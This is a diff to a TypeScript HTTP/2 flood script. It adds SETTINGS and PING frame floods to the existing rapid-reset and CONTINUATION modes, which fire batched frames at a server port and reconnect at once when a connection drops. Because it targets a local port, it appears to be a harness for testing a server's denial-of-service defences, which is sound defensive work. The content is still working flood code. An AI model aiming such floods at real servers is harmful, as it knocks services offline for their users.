@@ -4,7 +4,7 @@
 
 import { connect } from 'node:net';
 
-const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, CONTINUATION: 9 } as const;
+const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, CONTINUATION: 9 } as const;
 const END_STREAM = 1;
 const END_HEADERS = 4;
 const CANCEL = 8;
@@ -16,7 +16,7 @@ const WRITES_A_TURN = 4;
 const LAST_STREAM = 2 ** 31 - 1;
 const RECONNECT_AFTER_MS = 1;
 
-const kind = process.argv[2] as 'rapid-reset' | 'continuation' | 'burn';
+const kind = process.argv[2] as 'rapid-reset' | 'continuation' | 'settings' | 'ping' | 'burn';
 const [port, connections, seconds] = process.argv.slice(3).map(Number) as [number, number, number];
 const done = { connections: 0, frames: 0 };
 let isOver = false;
@@ -29,6 +29,11 @@ const CONTINUATIONS = Buffer.concat(
   Array.from({ length: IN_ONE_WRITE }, () =>
     frame(FRAME.CONTINUATION, 0, 1, [0x00, 1, 0x78, 16, ...Buffer.alloc(16, 'x')]),
   ),
+);
+
+const SETTINGS = Buffer.concat(Array.from({ length: IN_ONE_WRITE }, () => frame(FRAME.SETTINGS, 0, 0, [])));
+const PINGS = Buffer.concat(
+  Array.from({ length: IN_ONE_WRITE }, () => frame(FRAME.PING, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])),
 );
 
 setTimeout(() => {
@@ -53,7 +58,7 @@ function attack(i: number): void {
     for (let writes = 0; writes < WRITES_A_TURN; writes++) {
       if (!socket.writable) return;
       if (stream >= LAST_STREAM - 2 * IN_ONE_WRITE) return void socket.destroy();
-      const bytes = kind === 'rapid-reset' ? resets(stream) : CONTINUATIONS;
+      const bytes = bytesOf(stream);
       done.frames += kind === 'rapid-reset' ? 2 * IN_ONE_WRITE : IN_ONE_WRITE;
       if (kind === 'rapid-reset') stream += 2 * IN_ONE_WRITE;
       if (!socket.write(bytes)) return; // on drain
@@ -71,6 +76,11 @@ function attack(i: number): void {
   socket.on('error', () => socket.destroy());
   socket.on('end', () => socket.destroy());
   socket.on('close', () => setTimeout(() => attack(i + connections), RECONNECT_AFTER_MS));
+}
+
+function bytesOf(stream: number): Buffer {
+  if (kind === 'rapid-reset') return resets(stream);
+  return kind === 'settings' ? SETTINGS : kind === 'ping' ? PINGS : CONTINUATIONS;
 }
 
 function resets(first: number): Buffer {
